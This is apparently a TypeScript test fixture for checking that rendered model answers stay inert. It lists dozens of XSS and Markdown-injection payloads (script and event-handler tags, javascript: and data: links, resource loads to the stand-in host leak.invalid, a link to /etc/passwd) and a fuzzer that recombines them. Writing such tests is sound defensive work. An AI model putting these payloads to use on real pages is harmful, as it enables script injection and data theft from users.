import { array, constantFrom, sample, string, tuple, type Arbitrary } from 'fast-check'

/** Where a vector would lead: no such host exists, and any request to it counts. */
const ELSEWHERE = 'https://leak.invalid'

/** What a vector runs if it can. */
const HIT = 'globalThis.zqHit=1'

/** Texts that become active when somebody takes them for HTML, Markdown or an address. */
const PAYLOADS: readonly string[] = [
  `<script>${HIT}</script>`,
  `<ScRiPt >${HIT}</sCrIpT >`,
  `<script src=${ELSEWHERE}/a.js></script>`,
  `<img src=none onerror=${HIT}>`,
  `<img src="${ELSEWHERE}/a.png">`,
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
  `<math><mtext href="javascript:${HIT}">x</mtext></math>`,
  `<iframe srcdoc="<script>parent.zqHit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.zqHit=1"></iframe>`,
  `<object data="${ELSEWHERE}/a.swf"></object>`,
  `<embed src="${ELSEWHERE}/a.swf">`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/a.css">`,
  `<style>body{background:url(${ELSEWHERE}/a)}</style>`,
  `<form action="${ELSEWHERE}/"><button>x</button></form>`,
  `<a href="javascript:${HIT}">x</a>`,
  `<details open ontoggle=${HIT}>x</details>`,
  `<video src="${ELSEWHERE}/a.mp4" autoplay></video>`,
  `<input autofocus onfocus=${HIT}>`,
  `"><img src=none onerror=${HIT}>`,
  `' autofocus onfocus='${HIT}`,
  `</title></textarea></style><img src=none onerror=${HIT}>`,
  `<!--><img src=none onerror=${HIT}>-->`,
  `<template><script>${HIT}</script></template>`,
  `{{constructor.constructor('${HIT}')()}}`,
  `[x](javascript:${HIT})`,
  `[x](JAVASCRIPT:${HIT})`,
  `[x](&#x6A;avascript:${HIT})`,
  `[x](java&Tab;script:${HIT})`,
  `[x]( javascript:${HIT})`,
  `[x](data:text/html,<script>${HIT}</script>)`,
  `[x](vbscript:${HIT})`,
  `[x](blob:${ELSEWHERE}/a)`,
  `[x](file:///etc/passwd)`,
  `<javascript:${HIT}>`,
  `![x](${ELSEWHERE}/a.png)`,
  `[![x](${ELSEWHERE}/a.png)](javascript:${HIT})`,
  `[x](${ELSEWHERE}/a "' onmouseover='${HIT}")`,
  `\u202Eevil\u2066<b onclick=${HIT}>x</b>`,
]

/** Constructs of Markdown that need more than one line. */
const BLOCKS: readonly string[] = [
  `![x][r]\n\n[r]: ${ELSEWHERE}/a.png`,
  `[x][r]\n\n[r]: javascript:${HIT}`,
  `[^1]\n\n[^1]: <img src=none onerror=${HIT}>`,
  `| a |\n| - |\n| <img src=none onerror=${HIT}> |`,
  `\`\`\`html\n<script>${HIT}</script>\n\`\`\``,
  `\`\`\`"onclick=${HIT}\nx\n\`\`\``,
  `- [ ] <img src=none onerror=${HIT}>`,
  `[x](java\nscript:${HIT})`,
]

export type Vector = {
  /** Is shown with it, so that a check can tell that it was shown. */
  readonly mark: string
  /** One line, for names and messages. */
  readonly text: string
}

export const VECTORS: readonly Vector[] = PAYLOADS.map((payload, index) => ({
  mark: `zq${index}q`,
  text: `zq${index}q${payload}`,
}))

/** What a model may answer. */
export const DOCUMENTS: readonly string[] = [...PAYLOADS, ...BLOCKS]

const PIECES = [
  '[',
  ']',
  '(',
  ')',
  '!',
  '<',
  '>',
  '"',
  "'",
  '`',
  '|',
  '&',
  '#',
  ':',
  '//',
  '\n',
  ' ',
]

/** Documents of the same parts in any order. */
export function randomDocuments(seed: number, count: number): string[] {
  const piece: Arbitrary<string> = constantFrom(...PIECES, ...DOCUMENTS)
  const part = tuple(piece, string({ maxLength: 6 })).map((both) => both.join(''))
  return sample(array(part, { minLength: 1, maxLength: 8 }), { seed, numRuns: count }).map(
    (parts) => parts.join(''),
  )
}
